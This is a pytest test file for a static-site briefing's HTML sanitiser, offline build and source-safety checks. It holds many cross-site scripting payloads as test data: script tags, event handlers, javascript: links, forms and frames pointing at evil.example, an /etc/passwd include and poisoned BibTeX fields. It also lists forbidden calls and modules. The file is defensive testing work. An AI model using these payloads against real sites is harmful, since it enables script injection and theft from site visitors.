"""What SECURITY.md promises: no code from data, no network, only allow-listed HTML in pages.

The sanitiser is tested three ways: a table of inputs and outputs; the real briefing, whose
every page must come through it unchanged in content; and a hostile copy of the briefing with
script, event handlers, `javascript:` links, frames, styles, objects and forms in every kind of
field, none of which may reach any page.
"""

from __future__ import annotations

import ast
import json
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from briefing.publish import material, sanitize
from bs4 import BeautifulSoup
from bs4.element import Comment, NavigableString, Tag
from factory import make_briefing
from sitetools import ROOT, build_env, mkdocs_build

# --- the sanitiser, input by input -----------------------------------------------------------

KEPT = [
    # What the renderer writes: citations, cross-references, quotes, tables, glossary, lists.
    '<span class="citation-group">[<a class="citation" id="cite-a-1" href="../references/#ref-a"'
    ' title="A. &quot;T&quot; &lt;x&gt;.">1</a>, p. 4]</span>',
    '<a class="xref" href="../themes/x/#finding-y" title="Finding under theme 1">Shade</a>',
    '<figure class="quote" id="quote-a"><p class="quote-context">C</p><blockquote><p>T</p>'
    "</blockquote><figcaption>— A</figcaption></figure>",
    '<table class="data-table" id="stat-a-table"><caption>C</caption><thead><tr>'
    '<th scope="col">a</th></tr></thead><tbody><tr><th scope="row">x</th>'
    '<td class="numeric">1</td></tr></tbody></table>',
    '<dl class="glossary"><dt id="term-ccs">CCS</dt><dd>Consultant</dd></dl>',
    '<ol class="references"><li id="ref-a" value="3"><span class="reference">R</span></li></ol>',
    '<ol start="4"><li>four</li></ol>',
    '<nav class="rec-pager"><p><a href="../a/">← A</a></p></nav>',
    '<p class="kicker">K <strong class="status status-proposed">Proposed</strong></p>',
    '<p class="last-updated">Last updated <time datetime="2024-05-01">1 May 2024</time></p>',
    # What the Markdown extensions write: toc permalinks, abbreviations, admonitions, code.
    '<h2 id="why">Why<a class="headerlink" href="#why" title="Permanent link">¶</a></h2>',
    '<p><abbr title="Consultant Clinical Scientist">CCS</abbr></p>',
    '<div class="admonition note"><p class="admonition-title">Editor\'s note</p><p>N</p></div>',
    '<div class="highlight"><pre><span></span><code><span class="n">x</span></code></pre></div>',
    '<div class="grid cards"><ul><li><p><strong>R</strong></p><hr><p>T</p></li></ul></div>',
    '<p><img src="../assets/figure.png" alt="A figure" title="T"></p>',
    '<p><a href="https://doi.org/10.1/x">d</a> <a href="mailto:a@example.org">m</a></p>',
    "<details><summary>More</summary><p>x</p></details>",
    '<table><thead><tr><th style="text-align:right">n</th></tr></thead></table>',
]


@pytest.mark.parametrize("fragment", KEPT)
def test_what_the_renderer_writes_is_kept(fragment: str) -> None:
    assert _canonical(sanitize.clean(fragment)) == _canonical(fragment)


REMOVED = [
    ('<p>a<script>alert("x")</script>b</p>', "<p>ab</p>"),
    ("<script src=https://evil.example/x.js></script>", ""),
    ('<img src="x.png" onerror="alert(1)">', '<img src="x.png">'),
    ('<p onclick="alert(1)" onmouseover=alert(2)>t</p>', "<p>t</p>"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#106;&#97;vascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"),
    ('<a href="file:///etc/passwd">x</a>', "<a>x</a>"),
    ('<iframe src="https://evil.example"></iframe>t', "t"),
    ("<style>body{display:none}</style>t", "t"),
    ('<object data="x.swf"><param name="a"></object><embed src="x.swf">t', "t"),
    ('<form action="https://evil.example"><input name="pw"><button>Go</button></form>t', "Got"),
    ('<svg onload="alert(1)"><script>alert(2)</script></svg>t', "t"),
    ("<math><mtext><script>alert(1)</script></mtext></math>t", "t"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">t', "t"),
    ('<base href="https://evil.example/"><link rel="stylesheet" href="x.css">t', "t"),
    ("<noscript><p>t</p></noscript><template><p>u</p></template>v", "v"),
    ('<p style="position:fixed;inset:0">overlay</p>', "<p>overlay</p>"),
    (
        '<table><tr><td style="text-align:left;background:url(https://evil.example)">c</td>',
        '<table><tbody><tr><td style="text-align:left">c</td></tr></tbody></table>',
    ),
    ('<img src="https://tracker.example/pixel.gif" alt="">', '<img alt="">'),
    ('<img src="//tracker.example/pixel.gif">', "<img>"),
    ('<p id="__drawer">t</p>', "<p>t</p>"),
    ('<a href="x" target="_blank" rel="opener" download>t</a>', '<a href="x">t</a>'),
    ("<!--[if IE]><script>alert(1)</script><![endif]-->t", "t"),
    ('<p data-md-component="dialog" hidden>t</p>', "<p>t</p>"),
    ("<select><option>a</option></select><textarea>b</textarea>t", "t"),
]


@pytest.mark.parametrize(("hostile", "cleaned"), REMOVED)
def test_what_no_page_may_hold_is_removed(hostile: str, cleaned: str) -> None:
    assert sanitize.clean(hostile) == cleaned


def test_cleaning_is_stable() -> None:
    for fragment in KEPT + [h for h, _ in REMOVED]:
        once = sanitize.clean(fragment)
        assert sanitize.clean(once) == once


# --- what the theme writes unescaped -------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "safe"),
    [
        ("Recommendation 2: Flexibility", "Recommendation 2: Flexibility"),
        ("A &amp; B", "A &amp; B"),  # already HTML, as MkDocs keeps titles
        (
            "&lt;/title&gt;&lt;script&gt;x&lt;/script&gt;",
            "&lt;/title&gt;&lt;script&gt;x&lt;/script&gt;",
        ),
        ("<code>x</code> and <em>y</em>", "x and y"),
        ("  spaced \n out  ", "spaced out"),
        ("Editor's “note”", "Editor's “note”"),
    ],
)
def test_titles_are_plain_escaped_text(title: str, safe: str) -> None:
    assert sanitize.title(title) == safe


def test_front_matter_is_escaped() -> None:
    meta = {"description": '"><script>x</script>', "hide": ["toc"], "n": 3, "s": {"a": "<b>"}}
    assert sanitize.metadata(meta) == {
        "description": "&quot;&gt;&lt;script&gt;x&lt;/script&gt;",
        "hide": ["toc"],
        "n": 3,
        "s": {"a": "&lt;b&gt;"},
    }


THEME = (
    '<input class="md-toggle" data-md-toggle="drawer" type="checkbox" id="__drawer" '
    'autocomplete="off">\n'
    '<input type="text" class="md-search__input" name="query" autocorrect="off" '
    'autocomplete="off" required>\n'
    '<label class="md-nav__title" for="__toc">Table of contents</label>'
)


def test_theme_attributes_html_does_not_allow_are_removed() -> None:
    fixed = material.fix_theme(THEME)
    assert fixed == (
        '<input class="md-toggle" data-md-toggle="drawer" type="checkbox" id="__drawer">\n'
        '<input type="text" class="md-search__input" name="query" autocorrect="off" '
        'autocomplete="off" required>\n'
        '<label class="md-nav__title">Table of contents</label>'
    )
    assert material.fix_theme(fixed) == fixed


def test_a_toc_label_is_kept_where_its_control_exists() -> None:
    page = '<input type="checkbox" id="__toc"><label class="md-nav__title" for="__toc">T</label>'
    assert material.fix_theme(page) == page


# --- the real briefing: built in-process, offline, and unchanged by the sanitiser ------------


def _canonical(fragment: str) -> list[tuple[str, Any]]:
    """The content of an HTML fragment: elements, attributes and text, not its spelling."""
    soup = BeautifulSoup(fragment, "html.parser")
    found: list[tuple[str, Any]] = []
    for node in soup.descendants:
        if isinstance(node, Comment):
            continue
        if isinstance(node, NavigableString):
            found.append(("text", str(node)))
        elif isinstance(node, Tag):
            attrs = {}
            for name, value in node.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                if name == "style":
                    text = re.sub(r"\s|;$", "", text)
                attrs[name] = text
            found.append((node.name, sorted(attrs.items())))
    return found


class Offline:
    """Refuses and records every attempt to open a network connection in this process."""

    def __init__(self) -> None:
        self.attempts: list[str] = []

    def refuse(self, what: str) -> Callable[..., Any]:
        def refused(*args: Any, **kwargs: Any) -> Any:
            self.attempts.append(f"{what}{args[:2]!r}")
            raise OSError(f"network access during the build: {what}")

        return refused


@pytest.fixture(scope="module")
def offline_build(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[list[tuple[str, str]], Offline]:
    """Build the real briefing in this process with sockets refused, recording each page body
    before and after the sanitiser."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    pairs: list[tuple[str, str]] = []
    offline = Offline()
    original = sanitize.clean

    def recording(html: str) -> str:
        cleaned = original(html)
        pairs.append((html, cleaned))
        return cleaned

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sanitize, "clean", recording)
        patch.setattr(socket.socket, "connect", offline.refuse("connect"))
        patch.setattr(socket.socket, "connect_ex", offline.refuse("connect_ex"))
        patch.setattr(socket, "create_connection", offline.refuse("create_connection"))
        patch.setattr(socket, "getaddrinfo", offline.refuse("getaddrinfo"))
        for name, value in build_env().items():
            patch.setenv(name, value)
        config = load_config(
            str(ROOT / "mkdocs.yml"), site_dir=str(tmp_path_factory.mktemp("offline"))
        )
        build(config)
    return pairs, offline


@pytest.mark.slow
def test_the_build_opens_no_network_connection(
    offline_build: tuple[list[tuple[str, str]], Offline],
) -> None:
    pairs, offline = offline_build
    assert pairs, "the sanitiser was never called"
    assert offline.attempts == []


@pytest.mark.slow
def test_the_sanitiser_leaves_every_real_page_unchanged(
    offline_build: tuple[list[tuple[str, str]], Offline],
) -> None:
    pairs, _ = offline_build
    assert len(pairs) >= 15
    changed = [before[:200] for before, after in pairs if _canonical(before) != _canonical(after)]
    assert changed == []


@pytest.mark.slow
def test_the_build_works_with_no_network_at_all(tmp_path: Path) -> None:
    """`mkdocs build` in a network namespace with no interface up: nothing needs the network
    (not the theme, the citation styles, the schemas, nor the typesetter making the PDF)."""
    unshare = shutil.which("unshare")
    if unshare is None or subprocess.run([unshare, "-rn", "true"], check=False).returncode:
        pytest.skip("no unprivileged network namespaces on this machine")
    out = tmp_path / "site"
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(out)]
    result = subprocess.run(
        [unshare, "-rn", *command],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env=build_env(),
        check=False,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert (out / "index.html").is_file()


# --- no code from data: the engine's source ----------------------------------------------------

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
FORBIDDEN_MODULES = {
    "pickle", "marshal", "shelve", "dill", "socket", "ssl", "http", "urllib.request",
    "requests", "httpx", "urllib3", "ftplib", "smtplib", "telnetlib", "xmlrpc", "jinja2",
    "importlib.machinery", "ctypes",
}  # fmt: skip
UNSAFE_YAML = {"load", "load_all", "unsafe_load", "unsafe_load_all", "full_load", "full_load_all"}
UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader", "CLoader", "CUnsafeLoader", "CFullLoader"}


def _sources() -> Iterator[Path]:
    yield from sorted((ROOT / "hooks").rglob("*.py"))


@pytest.mark.parametrize("source", list(_sources()), ids=lambda p: p.relative_to(ROOT).as_posix())
def test_the_engine_never_evaluates_data_or_opens_the_network(source: Path) -> None:
    tree = ast.parse(source.read_text(encoding="utf-8"))
    found: list[str] = []
    safe_loaders = {"FAST", "_FAST"} | {
        node.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ClassDef)
        and any("SafeLoader" in ast.unparse(base) for base in node.bases)
    }
    for node in ast.walk(tree):
        where = f"{source.name}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module] + [f"{node.module}.{a.name}" for a in node.names]
            found += [
                f"{where}: imports {n}"
                for n in names
                if n in FORBIDDEN_MODULES or n.split(".")[0] in FORBIDDEN_MODULES
            ]
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
                found.append(f"{where}: calls {func.id}()")
            if isinstance(func, ast.Attribute):
                owner = func.value.id if isinstance(func.value, ast.Name) else ""
                if owner == "yaml" and func.attr in UNSAFE_YAML:
                    loader = next((k.value for k in node.keywords if k.arg == "Loader"), None)
                    if not (isinstance(loader, ast.Attribute) and "Safe" in loader.attr) and not (
                        isinstance(loader, ast.Name) and loader.id in safe_loaders
                    ):
                        found.append(f"{where}: yaml.{func.attr} without a safe loader")
                if owner == "os" and func.attr in {"system", "popen", "execv", "execvp", "spawnl"}:
                    found.append(f"{where}: os.{func.attr}()")
                if owner == "subprocess":
                    shell = [k for k in node.keywords if k.arg == "shell"]
                    if shell and not (
                        isinstance(shell[0].value, ast.Constant) and shell[0].value.value is False
                    ):
                        found.append(f"{where}: subprocess with a shell")
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in UNSAFE_LOADERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "yaml"
        ):
            found.append(f"{where}: yaml.{node.attr}")
    assert found == []


def test_the_markdown_extensions_include_no_files() -> None:
    """Extensions that read files named in the text (snippets, includes) would turn data into
    paths: none is configured."""
    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    for extension in ("pymdownx.snippets", "markdown_include", "mdx_include", "macros"):
        assert extension not in config


# --- a hostile copy of the briefing, built end to end -----------------------------------------

MARKDOWN = """

<script>alert("XSS-md-script")</script>
<img src="x.png" onerror="alert('XSS-md-onerror')"> <img src="https://evil.example/XSS-px.gif">
[click](javascript:alert('XSS-md-link')) [data](data:text/html,XSS-md-data)
<a href="JaVaScRiPt:alert('XSS-md-a')">a</a> <a href="java&#x09;script:alert('XSS-md-ent')">b</a>
<iframe src="https://evil.example/XSS-md-iframe"></iframe>
<style>body { display: none } /* XSS-md-style */</style>
<object data="XSS-md-object.swf"></object><embed src="XSS-md-embed.swf">
<form action="https://evil.example/XSS-md-form"><input name="pw"><button>go</button></form>
<svg onload="alert('XSS-md-svg')"><script>alert('XSS-md-svgscript')</script></svg>
<p id="__search" style="position:fixed;inset:0">XSS-md-overlay</p>
<div markdown="1" onmouseover="alert('XSS-md-mdinhtml')">*hover*</div>

## Heading <img src=x onerror="alert('XSS-md-heading')">

### &lt;/title&gt;&lt;script&gt;alert('XSS-md-toc')&lt;/script&gt;

A paragraph with attributes.
{: onclick="alert('XSS-md-attrlist')" }

Literal template syntax: {{ "TPL" ~ "EVAL" }} {% raw %}x{% endraw %}
"""
PLAIN = '</title><script>alert("XSS-plain")</script>"><img src=x onerror=alert("XSS-plain-img")>'
DOCS_PAGE = f"""---
title: '</title><script>alert("XSS-meta-title")</script>'
description: '"><script>alert("XSS-meta-description")</script>'
subtitle: '<img src=x onerror=alert("XSS-meta-subtitle")>'
---
# Hostile page <script>alert("XSS-doc-h1")</script>

--8<-- "/etc/passwd"

<meta http-equiv="refresh" content="0;url=javascript:alert('XSS-doc-meta')">
<base href="https://evil.example/XSS-doc-base/"><link rel="stylesheet" href="XSS-doc.css">
{MARKDOWN}
See [@hostile1; @hostile2].
"""
BIBTEX = """
@online{hostile1,
  author = {<img src=x onerror=alert("XSS-bib-author")>},
  title = {<script>alert("XSS-bib-title")</script> Title},
  url = {https://example.org/XSS-bib-url"><script>alert("XSS-bib-url")</script>},
  doi = {10.1234/x" onmouseover="alert('XSS-bib-doi')},
  year = {2024}
}
@online{hostile2,
  title = {Second},
  howpublished = {\\url{https://example.org/XSS-bib-howpub"onmouseover="alert(1)}},
  year = {2024}
}
"""
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "background"}
ACTIVE = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "base", "meta", "link", "foreignobject", "portal",
}  # fmt: skip
JSON_SCRIPTS = ("application/json", "application/ld+json")
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|file):", re.IGNORECASE)


def _edit_yaml(path: Path, change: Callable[[Any], None]) -> None:
    value = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(value)
    path.write_text(yaml.safe_dump(value, sort_keys=False, allow_unicode=True), encoding="utf-8")


def _poison(project: Path) -> None:
    data = project / "data"

    def recommendations(items: Any) -> None:
        items[0]["text"] += MARKDOWN
        items[0]["title"] += " " + PLAIN
        items[0]["actors"].append(PLAIN)
        items[0]["rationale"] += "\n\n[" + PLAIN + "][" + items[1]["id"] + "]\n"

    def themes(items: Any) -> None:
        items[0]["title"] += " " + PLAIN
        items[0]["summary"] += MARKDOWN

    def findings(items: Any) -> None:
        items[0]["title"] += " " + PLAIN
        items[0]["statement"] += MARKDOWN

    def quotes(items: Any) -> None:
        items[0]["text"] += " " + PLAIN
        items[0]["attribution"] += " " + PLAIN
        items[0]["context"] = PLAIN

    def statistics(items: Any) -> None:
        for item in items:
            item["title"] += " " + PLAIN
            if "columns" in item:
                item["columns"][0] += PLAIN
        items[0]["source"] += MARKDOWN

    def report(value: Any) -> None:
        value["subtitle"] = PLAIN
        value["summary"] += MARKDOWN
        value["authors"].append(PLAIN)

    def glossary(value: Any) -> None:
        value["CCS"] = PLAIN

    for name, change in (
        ("recommendations", recommendations),
        ("themes", themes),
        ("findings", findings),
        ("quotes", quotes),
        ("statistics", statistics),
        ("report", report),
        ("glossary", glossary),
    ):
        _edit_yaml(data / f"{name}.yml", change)
    (project / "docs" / "hostile.md").write_text(DOCS_PAGE, encoding="utf-8")
    with (project / "references.bib").open("a", encoding="utf-8") as handle:
        handle.write(BIBTEX)
    config = project / "mkdocs.yml"
    _edit_yaml(config, lambda c: c["nav"].append({"Hostile": "hostile.md"}))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_briefing(tmp_path_factory.mktemp("hostile"))
    _poison(project)
    out = project / "site"
    result = mkdocs_build(project / "mkdocs.yml", out)
    assert result.returncode == 0, result.stderr[-4000:]
    assert "Traceback" not in result.stderr
    return out


def _pages(site: Path) -> Iterator[tuple[str, BeautifulSoup]]:
    for file in sorted(site.rglob("*.html")):
        yield file.relative_to(site).as_posix(), BeautifulSoup(file.read_text("utf-8"), "lxml")


def _dangers(url: str, soup: BeautifulSoup, content: Tag | None) -> list[str]:
    found = []
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.append(f"{url}: <{element.name} {name}={text[:60]!r}>")
            if name.lower() in URL_ATTRIBUTES and BAD_SCHEME.match(
                re.sub(r"[\s\x00-\x1f]", "", text)
            ):
                found.append(f"{url}: <{element.name} {name}={text[:60]!r}>")
        if element.name == "script" and element.get("type") in JSON_SCRIPTS:
            json.loads(element.string or "")  # data, and still one whole script element
        elif element.name in ("script", "style", "iframe", "object", "embed", "form") and (
            "XSS" in element.decode()
        ):
            found.append(f"{url}: <{element.name}> carries a payload")
    if content is not None:
        for element in content.find_all(True):
            name = element.name.lower()
            in_svg = element.find_parent("svg") is not None
            if name in ACTIVE or (name == "style" and not in_svg):
                found.append(f"{url}: <{name}> in the content")
            if name == "img" and "src" in element.attrs and "//" in str(element["src"]):
                found.append(f"{url}: an image from another site")
    return found


@pytest.mark.slow
def test_no_payload_reaches_any_page(hostile_site: Path) -> None:
    pages = dict(_pages(hostile_site))
    assert len(pages) > 15
    found = []
    for url, soup in pages.items():
        found += _dangers(url, soup, soup.find("article"))
    assert found == []


@pytest.mark.slow
def test_no_payload_reaches_the_search_index(hostile_site: Path) -> None:
    index = json.loads((hostile_site / "search" / "search_index.json").read_text("utf-8"))
    found = []
    for doc in index["docs"]:
        for field in ("title", "text"):
            fragment = BeautifulSoup(str(doc.get(field, "")), "html.parser")
            found += _dangers(f"search:{doc['location']}", fragment, fragment)
    assert found == []


@pytest.mark.slow
def test_plain_text_is_shown_as_written(hostile_site: Path) -> None:
    """Escaped, not stripped: a quote that holds markup shows the markup as text."""
    text = "\n".join(soup.get_text(" ") for _, soup in _pages(hostile_site))
    assert 'alert("XSS-plain")' in text
    assert '</title><script>alert("XSS-plain")</script>' in text


@pytest.mark.slow
def test_data_is_never_evaluated_as_a_template_nor_included_as_a_file(hostile_site: Path) -> None:
    pages = [(hostile_site / url).read_text("utf-8") for url, _ in _pages(hostile_site)]
    assert not any("TPLEVAL" in page for page in pages)
    text = " ".join(BeautifulSoup(page, "lxml").get_text(" ") for page in pages)
    assert '{{ "TPL" ~ "EVAL" }}' in text
    assert "--8<--" in text
    assert not any("root:x:0:0" in page for page in pages)
